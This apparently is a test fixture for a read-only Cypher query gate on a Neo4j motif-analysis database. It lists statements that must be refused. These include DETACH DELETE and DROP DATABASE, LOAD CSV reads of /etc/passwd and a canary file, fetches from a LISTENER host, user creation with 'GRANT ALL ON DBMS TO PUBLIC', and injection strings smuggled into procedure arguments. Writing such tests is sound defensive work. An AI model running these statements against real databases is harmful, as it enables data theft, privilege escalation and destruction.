// One statement a line: each must be refused to an analyst at both doors, and change, read and reach nothing.
// CANARY is the address of a secret file, LISTENER a port of this machine that counts who connects.

// writing, plainly
CREATE (:Evil)
CREATE (n:Network {id: 'evil'}) RETURN n
CREATE (n:$('Evil')) RETURN n
MERGE (n:Network {id: 'evil'}) RETURN n
MERGE (n:Network {id: 'ring-001@0.5'}) ON MATCH SET n.state = 'GONE' ON CREATE SET n.state = 'NEW'
MATCH (n:Network) SET n.state = 'GONE'
MATCH (n:Network) SET n += {evil: 1}
MATCH (n:Network) SET n = {}
MATCH (n:Network) SET n['state'] = 'GONE'
MATCH (n:Network) SET n:Job
MATCH (n:Network) SET n:$('Job')
MATCH (n:Network) REMOVE n.id
MATCH (n:Network) REMOVE n:Network
MATCH ()-[c:CONNECTS_TO]->() SET c.weight = 0
MATCH (n) DETACH DELETE n
MATCH (n:StoreSchema) DELETE n RETURN count(n)
MATCH ()-[c]->() DELETE c
MATCH (a:Network), (b:Network) CREATE (a)-[:PRUNED_FROM]->(b)
MATCH (a:Network)-[:HAS_NEURON]->(b) MERGE (a)-[:EVIL]->(b)
PROFILE CREATE (:Evil)

// writing in disguise
FOREACH (i IN range(1, 3) | CREATE (:Evil {i: i}))
MATCH (n:Network) WITH collect(n) AS all FOREACH (n IN all | DETACH DELETE n)
MATCH (n:Network) CALL (n) { SET n.state = 'GONE' } RETURN n.id
CALL () { CREATE (n:Evil) RETURN n } RETURN n
CALL { CREATE (n:Evil) RETURN n } RETURN n
UNWIND range(1, 3) AS i CALL (i) { CREATE (:Evil {i: i}) } IN TRANSACTIONS OF 1 ROWS
MATCH (n:Network) CALL (n) { DETACH DELETE n } IN TRANSACTIONS OF 1 ROWS ON ERROR FAIL
UNWIND range(1, 3) AS i CALL (i) { CREATE (:Evil {i: i}) } IN 2 CONCURRENT TRANSACTIONS OF 1 ROWS
MATCH (n:Network) RETURN n.id AS id UNION CREATE (n:Evil) RETURN 'evil' AS id
MATCH (n:Network) WITH n LIMIT 1 CREATE (m:Evil) SET m = n RETURN m
CYPHER runtime=slotted CREATE (:Evil)
USE neo4j CREATE (:Evil)
EXPLAIN RETURN 1; CREATE (:Evil)

// tokens and schema
CALL db.createLabel('Evil')
CALL db.createProperty('evil')
CALL db.createRelationshipType('EVIL')
CREATE INDEX evil FOR (n:Network) ON (n.seed)
CREATE FULLTEXT INDEX evil FOR (n:Network) ON EACH [n.id]
CREATE VECTOR INDEX evil FOR (n:Network) ON (n.seed)
CREATE CONSTRAINT evil FOR (n:Network) REQUIRE n.seed IS UNIQUE
DROP CONSTRAINT network_id
DROP INDEX network_id IF EXISTS
CALL db.resampleIndex('network_id')
CALL db.resampleOutdatedIndexes()
CALL db.index.fulltext.awaitEventuallyConsistentIndexRefresh()

// files and addresses
LOAD CSV FROM 'CANARY' AS row RETURN row
LOAD CSV WITH HEADERS FROM 'CANARY' AS row RETURN row
LOAD CSV FROM 'file:///canary.csv' AS row RETURN row
LOAD CSV FROM 'file:///../canary.csv' AS row RETURN row
LOAD CSV FROM 'file:///etc/passwd' AS row RETURN row
LOAD CSV FROM 'http://LISTENER/a.csv' AS row RETURN row
LOAD CSV FROM 'https://LISTENER/a.csv' AS row RETURN row
LOAD CSV FROM 'ftp://LISTENER/a.csv' AS row RETURN row
LOAD CSV FROM 'jar:http://LISTENER/a.jar!/a.csv' AS row RETURN row
LOAD CSV FROM 'http://localhost:80@LISTENER/' AS row RETURN row
UNWIND ['CANARY', 'http://LISTENER/'] AS url LOAD CSV FROM url AS row RETURN row
MATCH (n:Network) WITH n LIMIT 1 CALL (n) { LOAD CSV FROM 'http://LISTENER/' + n.id AS row RETURN row } RETURN row
CALL apoc.load.json('http://LISTENER/') YIELD value RETURN value

// procedures off the list
CALL dbms.listConfig()
CALL dbms.listConfig('dbms') YIELD name, value RETURN name, value
CALL dbms.setConfigValue('db.transaction.timeout', '0')
CALL dbms.queryJmx('java.lang:type=Runtime')
CALL dbms.listConnections()
CALL dbms.killConnection('bolt-1')
CALL dbms.killConnections(['bolt-1'])
CALL dbms.listCapabilities()
CALL dbms.listActiveLocks('x')
CALL dbms.scheduler.groups()
CALL dbms.scheduler.jobs()
CALL dbms.upgrade()
CALL dbms.upgradeStatus()
CALL dbms.checkConfigValue('db.transaction.timeout', '0')
CALL dbms.security.clearAuthCache()
CALL dbms.security.createUser('evil', 'password', false)
CALL dbms.security.listUsers()
CALL db.checkpoint()
CALL db.clearQueryCaches()
CALL db.prepareForReplanning()
CALL db.awaitIndexes(1)
CALL db.stats.collect('QUERIES')
CALL db.stats.retrieve('GRAPH COUNTS')
CALL db.stats.retrieveAllAnonymized('x')
CALL db.stats.clear('QUERIES')
CALL db.stats.stop('QUERIES')
CALL db.listLocks()
CALL tx.setMetaData({app: 'evil'})
CALL tx.getMetaData()
CALL internal.dbms.evil()
MATCH (n:Network) CALL db.createLabel('Evil') RETURN n

// administration
SHOW USERS
CREATE USER evil SET PASSWORD 'evil password'
CREATE OR REPLACE USER neo4j SET PASSWORD 'evil password'
ALTER USER neo4j SET PASSWORD 'evil password'
ALTER USER ana SET PASSWORD CHANGE REQUIRED
ALTER CURRENT USER SET PASSWORD FROM 'not the old one' TO 'evil password'
RENAME USER neo4j TO evil
DROP USER neo4j
USE system CREATE USER evil SET PASSWORD 'evil password'
SHOW ROLES
CREATE ROLE evil
GRANT ROLE admin TO ana
GRANT ALL ON DBMS TO PUBLIC
SHOW PRIVILEGES
CREATE DATABASE evil
DROP DATABASE neo4j
STOP DATABASE neo4j
ALTER DATABASE neo4j SET ACCESS READ ONLY
CREATE ALIAS evil FOR DATABASE neo4j
CREATE ALIAS evil FOR DATABASE neo4j AT 'bolt://LISTENER' USER ana PASSWORD 'evil password'
SHOW SERVERS
ENABLE SERVER 'x'
DRYRUN REALLOCATE DATABASES

// several statements in one text
RETURN 1; CREATE (:Evil)
RETURN 1;; MATCH (n) DETACH DELETE n;
MATCH (n:Network) RETURN n; DROP CONSTRAINT network_id
/* RETURN */ CREATE (:Evil) // RETURN 1

// motif procedures that write, and strings that would escape into a statement
CALL motif.rewire('ring-001@0.5', {})
CALL motif.store('ring-001@0.5', {})
CALL motif.census({network: "ring-001@0.5'}) CREATE (:Evil) //"})
CALL motif.census({network: '`}) MATCH (n) DETACH DELETE n //'})
CALL motif.census({label: 'Network` {}) DETACH DELETE n //', type: 'HAS_NEURON'})
CALL motif.census({label: 'Neuron', type: 'CONNECTS_TO`]->() DETACH DELETE n //'})
CALL motif.census({network: 'ring-001@0.5', definition: "exact' CREATE (:Evil)"})
CALL motif.census({network: 'CANARY'})
CALL motif.zscores({network: 'ring-001@0.5', null: 'CANARY'})
CALL motif.zscores({network: 'http://LISTENER/', members: 2})
CALL motif.memberCounts({network: "' OR 1=1 CREATE (:Evil) //", members: 2})
CALL motif.participation({network: 'ring-001@0.5', motif: "bifan' CREATE (:Evil) //"})
CALL motif.instances("bifan' CREATE (:Evil) //", {network: 'ring-001@0.5'})
CALL motif.instances('bifan', {network: "x' SET n.a = 1 //"})
